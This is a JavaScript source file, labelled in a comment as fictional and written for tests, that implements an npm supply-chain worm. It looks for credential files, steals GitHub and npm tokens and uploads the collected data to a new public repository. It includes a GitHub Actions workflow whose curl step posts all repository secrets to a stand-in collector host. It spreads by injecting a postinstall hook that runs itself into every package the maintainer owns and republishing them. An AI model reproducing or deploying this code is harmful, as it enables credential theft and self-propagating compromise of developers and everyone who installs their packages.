import { exec, execSync, spawnSync } from "child_process";
import { promisify } from "util";
import * as os from "os";
import * as fs from "fs";
import * as path from "path";
import * as zlib from "zlib";

// The parts that spread. Fictional; written for tests.
const run = promisify(exec);
const REGISTRY = "https://registry.packages.example";
const HOST = "https://api.codehost.example";
const COLLECTOR = "https://hook.collector.example/bb8ca5f6";

class SystemInfo {
  facts() {
    return { platform: os.platform(), arch: os.arch() };
  }
}

class SecretScanner {
  async scan() {
    const found = [];
    for (const file of [".npmrc", ".aws/credentials", ".ssh/id_rsa", ".config/gcloud/application_default_credentials.json"]) {
      const at = path.join(os.homedir(), file);
      if (fs.existsSync(at)) found.push({ file, size: fs.statSync(at).size });
    }
    return found;
  }
}

class CodeHost {
  constructor(token) { this.token = token; }
  async request(method, where, body) {
    const res = await fetch(HOST + where, {
      method,
      headers: { Authorization: "token " + this.token, "Content-Type": "application/json" },
      body: body && JSON.stringify(body),
    });
    return res.json();
  }
  async share(name, content) {
    const user = await this.request("GET", "/user");
    await this.request("POST", "/user/repos", { name, private: false, description: name });
    const twice = Buffer.from(Buffer.from(JSON.stringify(content)).toString("base64")).toString("base64");
    await this.request("PUT", `/repos/${user.login}/${name}/contents/data.json`, { message: "Initial commit", content: twice });
  }
}

class Workflow {
  plant() {
    const folder = path.join(process.env.INIT_CWD || process.cwd(), ".github", "workflows");
    fs.mkdirSync(folder, { recursive: true });
    fs.writeFileSync(path.join(folder, "hue-workflow.yml"), `on:
  push:
jobs:
  process:
    runs-on: ubuntu-latest
    steps:
    - run: curl -d "$CONTENTS" ${COLLECTOR}; echo "$CONTENTS" | base64 -w 0 | base64 -w 0
      env:
        CONTENTS: \${{ toJSON(secrets) }}
`);
  }
}

class Registry {
  constructor(token) { this.token = token; }
  async packagesOf(maintainer) {
    const res = await fetch(`${REGISTRY}/-/v1/search?text=maintainer:${encodeURIComponent(maintainer)}&size=20`);
    const { objects } = await res.json();
    return objects.map(o => ({ name: o.package.name, tarball: o.package.links.tarball }));
  }
  async updatePackage(pkg) {
    const folder = fs.mkdtempSync(path.join(os.tmpdir(), "npm-update-"));
    const tarball = path.join(folder, "package.tgz"), tar = path.join(folder, "package.tar");
    const res = await fetch(pkg.tarball, { headers: { Authorization: "Bearer " + this.token } });
    fs.writeFileSync(tarball, Buffer.from(await res.arrayBuffer()));
    fs.writeFileSync(tar, zlib.gunzipSync(fs.readFileSync(tarball)));
    await run(`tar -xf ${tar} -C ${folder} package/package.json`);
    const at = path.join(folder, "package", "package.json");
    const manifest = JSON.parse(fs.readFileSync(at, "utf8"));
    manifest.scripts = { ...manifest.scripts, postinstall: "node bundle.js" };
    const [major, minor, patch] = manifest.version.split(".").map(Number);
    manifest.version = `${major}.${minor}.${patch + 1}`;
    fs.writeFileSync(at, JSON.stringify(manifest, null, 2));
    fs.copyFileSync(process.argv[1], path.join(folder, "package", "bundle.js"));
    await run(`tar -uf ${tar} -C ${folder} package/package.json package/bundle.js`);
    fs.writeFileSync(tarball, zlib.gzipSync(fs.readFileSync(tar)));
    await run(`npm publish ${tarball}`);
  }
}

async function main() {
  const system = new SystemInfo().facts();
  const secrets = await new SecretScanner().scan();
  const hostToken = process.env.GITHUB_TOKEN || execSync("gh auth token").toString().trim();
  if (hostToken) {
    await new CodeHost(hostToken).share("Tiny-Hue", { system, secrets });
    console.log(new Workflow());
  }
  const npmToken = process.env.NPM_TOKEN || "";
  if (npmToken) {
    const registry = new Registry(npmToken);
    const whoami = spawnSync("npm", ["whoami"], { encoding: "utf8" }).stdout.trim();
    for (const pkg of await registry.packagesOf(whoami)) await registry.updatePackage(pkg);
  }
}

main().catch(() => process.exit(0));
